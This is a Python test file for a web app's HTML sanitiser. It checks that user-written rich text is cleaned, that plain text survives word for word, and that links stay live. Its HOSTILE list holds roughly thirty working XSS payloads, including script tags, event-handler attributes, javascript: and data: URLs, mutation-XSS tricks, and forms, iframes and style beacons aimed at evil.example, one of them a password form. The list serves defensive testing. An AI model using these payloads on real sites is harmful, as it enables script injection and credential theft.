"""What people write, made safe: hostile HTML, plain text, live links (S28, S63)."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services import richtext

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x" onclick="alert(1)" style="position:fixed" target="_top">x</a>',
    '<form action="https://evil.example"><input name="password"><button formaction="//evil.example">x</button></form>',
    '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css"><style>*{display:none}</style>',
    '<p style="background:url(https://evil.example/spy)" class="btn" id="main" data-push hx-get="/logout">x</p>',
    '<div hx-get="/logout" hx-trigger="load" hx-on::load="alert(1)">x</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><img src=x onerror=alert(1)></template>",
    "<p>ok</p><plaintext>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x autoplay></audio>",
    f'<img src="/attachments/{"a" * 32}" onerror="alert(1)" style="position:fixed" class="x" id="main">',
    f'<img src="https://evil.example/attachments/{"a" * 32}"><img src="//evil.example/x"><img src="/logout">',
    f'<img src="/attachments/{"a" * 32}/../../logout"><img src="/attachments/{"a" * 32}?x=1"><img srcset="//evil.example/x">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>"><img src="javascript:alert(1)"><img alt="<script>alert(1)</script>">',
    '<span class="large button button--primary" onclick="alert(1)">x</span><span class="sr-only">x</span>',
    '<a href="/logout" ping="https://evil.example" download>x</a><a href="//evil.example">x</a>',
    "<ul><li><ol><li></ul><pre><b></pre></b><p><b><i></b></p></i>",
)


class Reader(HTMLParser):
    """What a browser would find."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: dict[str, str] = {}
        self.links: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes |= {name: value or "" for name, value in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]


def is_safe(html: str) -> bool:
    found = Reader(html)
    schemes = {urlsplit(link).scheme for link in found.links}
    pictures = [found.attributes.get("src", f"/attachments/{'0' * 32}")]
    return (
        set(found.tags) <= richtext.PAGE_TAGS
        and set(found.attributes) <= {"href", "rel", "src", "alt", "class"}
        and all(richtext.IMAGE.fullmatch(picture) for picture in pictures)
        and found.attributes.get("class", "") in {"", richtext.LARGE}
        and schemes <= {"", "http", "https", "mailto", "tel"}
    )


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_comes_through(html: str) -> None:
    text, safe = richtext.body(f"до {html} после", is_html=True)
    assert is_safe(safe), safe
    assert "alert(1)" not in safe or "&lt;" in safe
    assert richtext.clean(safe) == safe, "cleaning again changes nothing"
    assert "<" not in text or "&lt;" in safe


@given(st.text(alphabet="<>&\"'/= abphrefscitjv:\n", max_size=80))
def test_whatever_is_typed_comes_out_safe_and_plain_text_word_for_word(text: str) -> None:
    assert is_safe(richtext.body(text, is_html=True)[1])
    plain, html = richtext.body(text, is_html=False)
    assert is_safe(html)
    assert plain == text.strip()
    assert "".join(richtext.to_text(html).split()) == "".join(text.split())


def test_what_the_editor_makes_is_kept() -> None:  # S28
    html = "<p><b>1</b> <i>2</i> <u>3</u> <s>4</s></p><ul><li>5</li></ul><ol><li>6</li></ol><pre><code>7</code></pre>"
    html += "<blockquote>8</blockquote><h2>9</h2><table><tbody><tr><th>10</th><td>11</td></tr></tbody></table>"
    assert richtext.clean(html) == html


def test_links_stay_live_and_give_nothing_away() -> None:  # S63
    assert richtext.clean('<p>Прошивка <a href="https://nag.wiki/x?a=1&amp;b=2">здесь</a></p>') == (
        '<p>Прошивка <a href="https://nag.wiki/x?a=1&amp;b=2" rel="noopener noreferrer">здесь</a></p>'
    )


@pytest.mark.parametrize(
    ("text", "links"),
    [
        ("См. https://nag.wiki.", ["https://nag.wiki"]),
        ("(https://nag.wiki/a_(b)?q=1&w=<2>)", ["https://nag.wiki/a_(b)?q=1&w="]),
        ("«https://nag.wiki/путь»", ["https://nag.wiki/путь"]),
        (
            "http://a.example, https://b.example; https://c.example!",
            ["http://a.example", "https://b.example", "https://c.example"],
        ),
        ('https://x.example/"onmouseover="alert(1)', ["https://x.example/"]),
        ("javascript:alert(1) ftp://x.example xhttps://y.example", []),
        ("https://x.example/?a=1&b=2", ["https://x.example/?a=1&b=2"]),
    ],
)
def test_addresses_in_plain_text_become_links(text: str, links: list[str]) -> None:
    plain, html = richtext.body(text, is_html=False)
    assert [link.rstrip(")") for link in Reader(html).links] == [link.rstrip(")") for link in links]
    assert plain == text and richtext.to_text(html) == text
    assert is_safe(html)


def test_plain_text_keeps_its_signs_lines_and_paragraphs() -> None:
    plain, html = richtext.body("if a < b && c > d:\r\n  reboot\r\n\r\n\r\nконец\n", is_html=False)
    assert plain == "if a < b && c > d:\n  reboot\n\n\nконец"
    assert html == "<p>if a &lt; b &amp;&amp; c &gt; d:<br>  reboot</p><p>конец</p>"


def test_html_in_plain_text_is_shown_not_obeyed() -> None:
    assert richtext.body("<b>жирно</b>", is_html=False) == ("<b>жирно</b>", "<p>&lt;b&gt;жирно&lt;/b&gt;</p>")


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>Раз</p><p>Два<br>три</p>", "Раз\nДва\nтри"),
        ("<p>1 &lt; 2 &amp;amp; 3</p>", "1 < 2 &amp; 3"),
        ("<ul><li>Раз</li><li>Два</li></ul>", "• Раз\n• Два"),
        ("<p>Порт</p>\n\n\n\n<p>лежит</p>", "Порт\nлежит"),
        ("<table><tbody><tr><td>Порт</td><td>1</td></tr><tr><td>Скорость</td><td>10G</td></tr></tbody></table>",
         "Порт 1\nСкорость 10G"),
        ("<b>Спа</b>сибо", "Спасибо"),
        ("a&nbsp;b", "a\u00a0b"),
        ("<style>p{}</style><script>x</script>текст", "текст"),
        ("", ""),
    ],
)  # fmt: skip
def test_html_reads_as_a_reader_sees_it(html: str, text: str) -> None:
    assert richtext.to_text(html) == text


def test_a_plain_nothing_is_nothing() -> None:
    assert richtext.body(" \r\n\t ", is_html=False) == ("", "")


OURS, OTHERS = "a" * 32, "b" * 32


def test_a_picture_stays_when_it_is_a_file_that_came_with_the_text() -> None:  # S28
    html = f'<p><img src="/attachments/{OURS}" alt="порт"><img src="/attachments/{OTHERS}" alt="чужой"></p>'
    text, safe = richtext.body(html, is_html=True, images={OURS})
    assert safe == f'<p><img src="/attachments/{OURS}" alt="порт"></p>' and text == "[порт]"
    assert richtext.images_of(safe) == {OURS}
    assert richtext.body(html, is_html=True) == ("", "")  # none came with it
    assert richtext.clean(html) == html and richtext.shown(html) == html  # who may see a file is asked when it is read


@pytest.mark.parametrize("html", HOSTILE)
def test_what_is_stored_is_cleaned_again_before_it_is_shown(html: str) -> None:  # S28
    assert is_safe(richtext.shown(html)) and is_safe(richtext.shown(html + "x" * richtext.LONGEST_KEPT))


def test_sizes_are_kept() -> None:  # S28
    html = '<p><small>мелко</small> <span class="large">крупно</span></p>'
    assert richtext.clean(html) == html


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<pre>interface eth0\n  no shutdown\n\nvlan 10</pre>", "interface eth0\n  no shutdown\n\nvlan 10"),
        ("<div>Было:</div><pre>  a\n b</pre><div>Стало</div>", "Было:\n  a\n b\nСтало"),
        ("<ol><li>Раз<ul><li>внутри</li></ul></li><li>Два</li></ol>", "1. Раз\n  • внутри\n2. Два"),
        ("<div>Раз</div><div><br></div><div>Два</div>", "Раз\n\nДва"),
        ('<p>См. <a href="https://nag.wiki/x">статью</a></p>', "См. статью (https://nag.wiki/x)"),
        ('<p><a href="https://nag.wiki">https://nag.wiki/</a></p>', "https://nag.wiki/"),
        ("<p>много    пробелов\nи строк</p>", "много пробелов и строк"),
    ],
)
def test_letters_keep_code_lists_and_links_readable(html: str, text: str) -> None:  # S28, S63
    assert richtext.to_text(html) == text


def test_what_stands_between_fences_is_code() -> None:  # S28
    plain, html = richtext.body("Смотрите:\r\n```cisco\r\nvlan 10\r\n  name <x>\r\n```\r\nи всё", is_html=False)
    assert html == "<p>Смотрите:</p><pre><code>vlan 10\n  name &lt;x&gt;</code></pre><p>и всё</p>"
    assert plain == "Смотрите:\n```cisco\nvlan 10\n  name <x>\n```\nи всё"
    assert "<pre>" not in richtext.from_plain("``` одна строка ``` и ```")


def test_a_long_text_of_the_editor_is_read_and_a_tower_of_tags_is_not() -> None:  # S28
    lines = "".join(f"<div>{number}<br></div>" for number in range(3000))
    assert richtext.body(lines, is_html=True)[0].splitlines()[-1] == "2999"
    for tower in ("<b>" * 200, "".join(f"<b class={number}></i>" for number in range(200)), "<p><b></p>" * 200):
        assert richtext.body(f"{tower}x", is_html=True)[1].startswith("<p>&lt;")


def test_fences_that_nothing_ends_are_words() -> None:  # S28
    assert richtext.from_plain("```x\nраз\n```y\nдва") == "<p>```x<br>раз<br>```y<br>два</p>"
    assert richtext.from_plain("```\nраз\n```\nмежду\n```\nдва") == (
        "<pre><code>раз</code></pre><p>между<br>```<br>два</p>"
    )
